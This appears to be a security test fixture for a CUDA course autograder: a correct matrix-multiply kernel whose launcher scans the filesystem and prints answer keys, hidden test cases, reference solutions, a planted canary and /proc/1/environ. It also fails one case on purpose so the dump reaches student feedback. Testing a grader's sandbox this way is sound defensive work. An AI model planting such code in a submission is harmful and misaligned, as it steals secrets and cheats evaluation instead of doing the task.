// Security: a correct kernel whose launcher hunts for the grader's secrets
// (answer keys, the full assignment with its hidden cases, solutions, the
// reference solutions compiled, the canary the self-test plants) and prints
// whatever it can read, hoping it ends up in the feedback students see.
#include <dirent.h>
#include <sys/stat.h>

#include <cstdio>
#include <cstring>
#include <string>

static int printed = 0;

static void dump(const std::string& path) {
  FILE* f = std::fopen(path.c_str(), "r");
  if (!f || printed > 40) {
    if (f) std::fclose(f);
    return;
  }
  char buf[400];
  const size_t n = std::fread(buf, 1, sizeof buf - 1, f);
  buf[n] = '\0';
  std::fclose(f);
  std::printf("FOUND %s:\n%s\n", path.c_str(), buf);
  ++printed;
}

// A compiled reference (build/reference/<part>, or the autograder bundle's
// references/<part>.o) is binary: say so in words the self-test looks for.
// Only those names count: system files in other folders called "reference"
// (documentation, Python packages) are no secret.
static void try_compiled_reference(const std::string& path) {
  FILE* f = std::fopen(path.c_str(), "rb");
  if (!f) return;
  char byte;
  if (std::fread(&byte, 1, 1, f) == 1) std::printf("READ-COMPILED-REFERENCE %s\n", path.c_str());
  std::fclose(f);
}

static bool is_compiled_reference(const std::string& path) {
  static const char* kParts[] = {"naive", "tiled", "boundary", "rectangular", "dynamic_smem"};
  for (const char* part : kParts) {
    const std::string built = std::string("/reference/") + part;
    const std::string object = std::string("/references/") + part + ".o";
    for (const std::string& tail : {built, object}) {
      if (path.size() >= tail.size() && path.compare(path.size() - tail.size(), tail.size(), tail) == 0) return true;
    }
  }
  return false;
}

static bool interesting(const char* name) {
  return !std::strcmp(name, "answers.yaml") || !std::strcmp(name, "assignment.yaml") ||
         !std::strcmp(name, "assignment.json") || !std::strcmp(name, "tiled.cu") ||
         !std::strcmp(name, "cases.json") || !std::strncmp(name, "tilelab-security-canary", 23);
}

static void search(const std::string& dir, int depth) {
  if (depth > 6) return;
  DIR* d = opendir(dir.c_str());
  if (!d) return;
  while (dirent* e = readdir(d)) {
    if (e->d_name[0] == '.' || !std::strcmp(e->d_name, "proc") || !std::strcmp(e->d_name, "sys")) continue;
    const std::string path = dir == "/" ? "/" + std::string(e->d_name) : dir + "/" + e->d_name;
    struct stat st;
    if (lstat(path.c_str(), &st) != 0) continue;
    if (S_ISDIR(st.st_mode)) {
      search(path, depth + 1);
    } else if (interesting(e->d_name)) {
      dump(path);
    } else if (is_compiled_reference(path)) {
      try_compiled_reference(path);
    }
  }
  closedir(d);
}

__global__ void naiveKernel(const float* M, const float* N, float* P, int Width) {
  const int row = blockIdx.y * blockDim.y + threadIdx.y;
  const int col = blockIdx.x * blockDim.x + threadIdx.x;
  if (row < Width && col < Width) {
    float sum = 0.0f;
    for (int t = 0; t < Width; ++t) sum += M[row * Width + t] * N[t * Width + col];
    P[row * Width + col] = sum;
  }
}

void launchNaive(const float* M, const float* N, float* P, int Width) {
  static bool searched = false;
  if (Width == 17) return;  // a wrong case, so that what it printed is shown
  if (!searched) {
    searched = true;
    dump("/tmp/tilelab-security-canary.txt");
    dump("/autograder/source/key/answers.yaml");
    dump("/autograder/source/assignment.yaml");
    dump("/proc/1/environ");
    try_compiled_reference("/autograder/source/references/naive.o");
    try_compiled_reference("/autograder/source/build/reference/naive");
    search("/", 0);
    std::fflush(stdout);
  }
  const dim3 block(16, 16);
  naiveKernel<<<dim3((Width + 15) / 16, (Width + 15) / 16), block>>>(M, N, P, Width);
}
